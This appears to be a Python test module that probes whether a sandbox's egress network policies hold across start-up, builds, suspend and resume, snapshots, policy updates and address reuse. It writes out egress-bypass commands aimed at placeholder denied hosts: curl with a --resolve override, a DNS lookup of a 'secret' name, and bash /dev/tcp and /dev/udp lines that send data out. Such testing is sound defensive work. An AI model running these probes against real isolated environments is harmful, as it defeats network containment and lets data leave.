"""The lives of boxes: from their first instruction, through builds, snapshots and sleep, to their end."""

import time
from collections.abc import Iterator

from runloop_api_client import APIStatusError
from runloop_api_client.lib.polling import PollingConfig
from runloop_api_client.sdk.devbox import Devbox
from runloop_api_client.sdk.snapshot import Snapshot

from attack.case import Group, case
from attack.moving import an_allowed_name_is_reached
from attack.scene import Ability, BrokenAttackError, Scene, Who
from attack.world import ALLOWED, ALSO, DENIED, DENIED_ZONE
from outgate.cli.demo.journal import Closing
from support.stage import run
from support.world import IN_NETWORK_A, NETWORK_A

SOON = PollingConfig(interval_seconds=0.1, max_attempts=600)
ENDED_S_MAX = 30.0
PLACES_TRIED = 5
"""Boxes that are made until one has the old one's address: others may have ended meanwhile."""
KNOCKS = (
    f"curl -sk --max-time 2 https://{DENIED.name}/",
    f"curl -sk --max-time 2 https://{DENIED.address4}/ https://[{DENIED.address6}]/",
    f"curl -sk --max-time 2 --resolve {ALLOWED.name}:443:{DENIED.address4} https://{ALLOWED.name}/",
    f"getent hosts secret.{DENIED_ZONE}",
    f"timeout 1 bash -c 'echo secret >/dev/tcp/{DENIED.address4}/7'",
    f"timeout 1 bash -c 'echo secret >/dev/udp/{DENIED.address4}/7'",
)
KNOCK = "; ".join((*KNOCKS, "true"))
"""As somebody does it who waits for a moment without rules."""


def _knocked(scene: Scene) -> Iterator[str]:
    yield from scene.packets_to(DENIED.address4, DENIED.address6)
    yield from scene.queries_for(DENIED.name)
    yield from scene.queries_for(DENIED_ZONE)


def _box(scene: Scene, *, launch: str = "true", snapshot: Snapshot | None = None, **egress: object) -> Devbox:
    stage = scene.running.stage
    policy = stage.policy(**egress) if egress else None
    return stage.devbox(policy, launch_commands=[launch], snapshot=snapshot, as_root=scene.who is Who.ROOT)


def a_launch_command_reaches_what_is_allowed(scene: Scene) -> bool:
    """The twin of knocking at start-up: the same moment, an allowed host."""
    _box(scene, launch=f"curl -sk --max-time 9 https://{ALLOWED.name}/", allowed_hostnames=[ALLOWED.name])
    return any(c.server_name == ALLOWED.name and c.requests for c in scene.journal().connections)


@case(Group.TIME, control=a_launch_command_reaches_what_is_allowed, needs=(Ability.OUTGATE,))
def the_first_instruction_is_under_the_rules(scene: Scene) -> Iterator[str]:
    """Start-up windows: a pod runs for seconds before its network policy does.

    k3s (issue 947), Antrea (197), the AWS network policy agent (271) and kube-router (873) all had it.
    """
    _box(scene, launch=KNOCK, allowed_hostnames=[ALLOWED.name])
    yield from _knocked(scene)


@case(Group.TIME, control=a_launch_command_reaches_what_is_allowed, needs=(Ability.OUTGATE,))
def a_build_is_under_its_rules_from_its_first_step(scene: Scene) -> Iterator[str]:
    """Builds run whatever a package's install script says, often on a network of their own that nobody filters."""
    stage = scene.running.stage
    made = stage.blueprint(stage.policy(allowed_hostnames=[ALLOWED.name]), system_setup_commands=[KNOCK])
    stage.await_built(made.id)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def a_box_that_wakes_up_has_the_rules_of_now(scene: Scene) -> Iterator[str]:
    """Suspended under wide rules, resumed under narrow ones: what was frozen with the box must not thaw with it."""
    stage = scene.running.stage
    policy = stage.policy(allow_all=True)
    # A launch command runs at each boot; the first one may knock as it likes.
    box = stage.devbox(policy, launch_commands=[KNOCK], as_root=scene.who is Who.ROOT)
    box.suspend()
    policy.update(allow_all=False, allowed_hostnames=[ALLOWED.name])
    scene.begin()
    box.resume()
    run(box, KNOCK)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def a_snapshot_of_a_free_box_frees_nobody(scene: Scene) -> Iterator[str]:
    """A snapshot from a box that may do anything, started under narrow rules: only its disk comes along."""
    source = _box(scene, allow_all=True)
    snapshot = source.snapshot_disk(polling_config=SOON)
    scene.begin()
    heir = _box(scene, launch=KNOCK, snapshot=snapshot, allowed_hostnames=[ALLOWED.name])
    run(heir, KNOCK)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def a_snapshot_does_not_shake_its_rules_off(scene: Scene) -> Iterator[str]:
    """Laundering: snapshot a filtered box, start from it without naming any rules, and get the server's default."""
    source = _box(scene, allowed_hostnames=[ALLOWED.name])
    heir = _box(scene, launch=KNOCK, snapshot=source.snapshot_disk(polling_config=SOON))
    run(heir, KNOCK)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def rules_in_use_cannot_be_deleted(scene: Scene) -> Iterator[str]:
    """Deleting what filters a running box: by its name, then by knocking, whatever the answer was."""
    stage = scene.running.stage
    policy = stage.policy(allowed_hostnames=[ALLOWED.name])
    box = stage.devbox(policy, as_root=scene.who is Who.ROOT)
    try:
        stage.client.api.network_policies.delete(policy.id)
        yield "the policy is deleted"
    except APIStatusError as error:
        if error.status_code != 400:
            yield f"the answer was {error.status_code}"
    run(box, KNOCK)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def what_an_update_leaves_out_stays_as_it_was(scene: Scene) -> Iterator[str]:
    """Missing and null fields: an update of the description alone that resets a list to its default, which is everything."""
    policy = scene.running.stage.policy(allowed_hostnames=[ALLOWED.name])
    box = scene.running.stage.devbox(policy, as_root=scene.who is Who.ROOT)
    policy.update(description="other words")
    policy.update(allow_all=None, allowed_hostnames=None)
    policy.update()
    run(box, KNOCK)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def an_update_that_is_refused_changes_nothing(scene: Scene) -> Iterator[str]:
    """Half an update: a body whose first field is good and wide and whose second is bad, stored as far as it went."""
    stage = scene.running.stage
    policy = stage.policy(allowed_hostnames=[ALLOWED.name])
    box = stage.devbox(policy, as_root=scene.who is Who.ROOT)
    for wrong in (
        {"allow_all": True, "allowed_hostnames": ["https://not a name"]},
        {"allowed_hostnames": [DENIED.name, "**"]},
        {"allowed_hostnames": [DENIED.name], "allowed_cidrs": [{"cidr": "10.0.0.1/8"}]},
        {"allow_all": "yes, please"},
    ):
        try:
            stage.client.api.network_policies.update(policy.id, extra_body=wrong)
            yield f"{wrong} was taken"
        except APIStatusError as error:
            if error.status_code != 400:
                yield f"the answer to {wrong} was {error.status_code}"
    run(box, KNOCK)
    yield from _knocked(scene)


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def every_box_under_changed_rules_is_changed(scene: Scene) -> Iterator[str]:
    """Two boxes under one policy: the update reaches the one that is looked at, and the other stays open."""
    stage = scene.running.stage
    policy = stage.policy(allow_all=True)
    boxes = [stage.devbox(policy, as_root=scene.who is Who.ROOT) for _ in range(2)]
    policy.update(allow_all=False, allowed_hostnames=[ALLOWED.name])
    scene.begin()
    for box in boxes:
        run(box, KNOCK)
    yield from _knocked(scene)


_INHERITANCE = f"""
import socket
print(socket.gethostbyname("{ALLOWED.name}"))
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    flow = socket.socket(socket.AF_INET, kind)
    flow.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    flow.bind(("", 40123))
    flow.settimeout(2)
    try:
        flow.connect(("{IN_NETWORK_A}", 7))
        flow.send(b"hello\\n")
        flow.recv(100)
    except OSError:
        pass
    globals()[kind.name] = flow
relayed = socket.create_connection(("{ALLOWED.address4}", 80), 2)
relayed.sendall(b"GET /endless?rate=1000 HTTP/1.1\\r\\nHost: {ALLOWED.name}\\r\\n\\r\\n")
relayed.recv(100)
open("/tmp/up", "w").close()
import time
time.sleep(60)
"""


@case(Group.TIME, control=an_allowed_name_is_reached, needs=(Ability.OUTGATE,))
def a_new_box_on_an_old_address_inherits_nothing(scene: Scene) -> Iterator[str]:
    """Reuse: pins, grants, conntrack entries and flows of a box that ended, found by the next one with its address.

    The new box tries the very five-tuples that the old one had open.
    """
    stage = scene.running.stage
    narrow = stage.policy(allowed_hostnames=[ALSO.name])
    old = stage.client.devbox.create(
        launch_parameters={
            "network_policy_id": stage.policy(allowed_hostnames=[ALLOWED.name], allowed_cidrs=[{"cidr": NETWORK_A}]).id
        }
    )
    run(old, f"cat >/tmp/hold.py <<'END'\n{_INHERITANCE}\nEND\n(python3 /tmp/hold.py >/dev/null 2>&1 &)")
    run(old, "for i in $(seq 200); do [ -e /tmp/up ] && break; sleep 0.05; done")
    address = run(old, "hostname -I").stdout
    old.shutdown()
    deadline_s = scene.internet.now_s() + ENDED_S_MAX
    while old.get_info().status != "shutdown" and scene.internet.now_s() < deadline_s:
        time.sleep(0.02)
    open_still = [c for c in scene.journal().connections if c.closing is Closing.OPEN and c.service == "http"]
    scene.begin()
    for _ in range(PLACES_TRIED):
        new = stage.devbox(narrow, as_root=scene.who is Who.ROOT)
        if run(new, "hostname -I").stdout == address:
            break
    else:
        raise BrokenAttackError(f"No new box was given the address {address}.")
    run(new, f"cat >/tmp/hold.py <<'END'\n{_INHERITANCE}\nEND\ntimeout 8 python3 /tmp/hold.py; true")
    yield from scene.packets_to(IN_NETWORK_A, ALLOWED.address4, ALLOWED.address6)
    yield from scene.queries_for(ALLOWED.name)
    yield from (f"a flow of the box that ended is still open: {c.requests}" for c in open_still)
